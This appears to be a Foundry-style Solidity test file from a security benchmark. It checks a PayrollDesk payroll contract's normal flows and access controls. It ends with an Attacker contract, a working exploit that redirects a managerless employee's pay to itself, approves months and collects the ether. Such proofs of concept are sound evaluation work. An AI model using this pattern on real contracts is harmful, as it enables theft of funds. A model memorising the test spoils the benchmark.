// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./PayrollDesk.sol";

// assay-canary-92599fa2-9ec8-427d-9fd0-50479af5cc2e

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADMIN = address(0xAD1);
    address private constant HR = address(0x488);
    address private constant CASH = address(0xCA5);
    address private constant BOSS = address(0xB05);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    PayrollDesk private desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 100 ether);
        desk = new PayrollDesk();
        desk.initialize(ADMIN);
        vm.startPrank(ADMIN);
        desk.grantRole(desk.HR_ROLE(), HR);
        desk.grantRole(desk.TREASURER_ROLE(), CASH);
        vm.stopPrank();
        vm.startPrank(HR);
        desk.hire(ANA, BOSS, 3 ether);
        desk.hire(BEN, address(0), 4 ether);
        vm.stopPrank();
        fund(30 ether);
        vm.warp(START + 61 days);
        mallory = new Attacker(desk);
    }

    function fund(uint256 amount) private {
        (bool sent, ) = address(desk).call{value: amount}("");
        require(sent, "funded");
    }

    function test_Regular() public {
        vm.startPrank(BOSS);
        desk.approveMonth(0);
        desk.approveMonth(0);
        desk.setAccount(0, address(0xA9B));
        vm.stopPrank();
        require(desk.totalDue() == 6 ether && desk.available() == 24 ether, "approved");
        desk.pay(0);
        require(address(0xA9B).balance == 6 ether && desk.totalDue() == 0, "paid");
        vm.startPrank(HR);
        desk.approveMonth(1);
        desk.setManager(1, BOSS);
        vm.stopPrank();
        vm.startPrank(BOSS);
        desk.approveMonth(1);
        vm.stopPrank();
        vm.prank(HR);
        desk.dismiss(1);
        desk.pay(1);
        require(BEN.balance == 8 ether && desk.employee(1).salary == 0, "dismissed");
        vm.prank(CASH);
        desk.withdraw(CASH, 16 ether);
        require(CASH.balance == 16 ether && address(desk).balance == 0, "withdrawn");
        vm.startPrank(ADMIN);
        desk.revokeRole(desk.HR_ROLE(), HR);
        require(!desk.hasRole(desk.HR_ROLE(), HR), "revoked");
        vm.stopPrank();
    }

    function test_RefusesSetups() public {
        vm.expectRevert("PayrollDesk: initialized");
        desk.initialize(ADMIN);
        vm.prank(ADMIN);
        vm.expectRevert("PayrollDesk: not the deployer");
        desk.initialize(ADMIN);
        bytes32 role = desk.HR_ROLE();
        vm.expectRevert("AccessRoles: role missing");
        desk.grantRole(role, ANA);
        vm.expectRevert("AccessRoles: role missing");
        desk.revokeRole(role, HR);
        vm.prank(ADMIN);
        vm.expectRevert("AccessRoles: no account");
        desk.grantRole(role, address(0));
        PayrollDesk other = new PayrollDesk();
        vm.expectRevert("AccessRoles: no account");
        other.initialize(address(0));
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BOSS);
        vm.expectRevert("AccessRoles: role missing");
        desk.hire(ANA, BOSS, 1);
        vm.expectRevert("AccessRoles: role missing");
        desk.setManager(0, BOSS);
        vm.expectRevert("AccessRoles: role missing");
        desk.dismiss(0);
        vm.expectRevert("AccessRoles: role missing");
        desk.withdraw(BOSS, 1);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert("PayrollDesk: not the manager");
        desk.approveMonth(0);
        vm.expectRevert("PayrollDesk: not the manager");
        desk.setAccount(0, BEN);
        vm.stopPrank();
    }

    function test_RefusesHr() public {
        vm.startPrank(HR);
        vm.expectRevert("PayrollDesk: no account");
        desk.hire(address(0), BOSS, 1);
        vm.expectRevert("PayrollDesk: no salary");
        desk.hire(ANA, BOSS, 0);
        vm.expectRevert("PayrollDesk: no account");
        desk.setAccount(0, address(0));
        vm.expectRevert("PayrollDesk: not employed");
        desk.approveMonth(2);
        vm.expectRevert("PayrollDesk: not employed");
        desk.setAccount(2, ANA);
        desk.approveMonth(0);
        desk.approveMonth(0);
        vm.expectRevert("PayrollDesk: month not over");
        desk.approveMonth(0);
        vm.warp(START + 90 days - 1);
        vm.expectRevert("PayrollDesk: month not over");
        desk.approveMonth(0);
        vm.warp(START + 90 days);
        desk.approveMonth(0);
        vm.stopPrank();
    }

    function test_RefusesFunds() public {
        vm.expectRevert("PayrollDesk: nothing due");
        desk.pay(0);
        vm.startPrank(CASH);
        vm.expectRevert("PayrollDesk: no account");
        desk.withdraw(address(0), 1);
        desk.withdraw(CASH, 27 ether);
        vm.stopPrank();
        vm.prank(HR);
        vm.expectRevert("PayrollDesk: not enough ether");
        desk.approveMonth(1);
        vm.prank(BOSS);
        desk.approveMonth(0);
        vm.prank(CASH);
        vm.expectRevert("PayrollDesk: not enough ether");
        desk.withdraw(CASH, 1);
        vm.prank(BOSS);
        desk.setAccount(0, address(this));
        vm.expectRevert("PayrollDesk: not sent");
        desk.pay(0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 8 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PayrollDesk private desk;

    constructor(PayrollDesk d) {
        desk = d;
    }

    function run() external {
        desk.setAccount(1, address(this));
        desk.approveMonth(1);
        desk.approveMonth(1);
        desk.pay(1);
    }

    receive() external payable {}
}
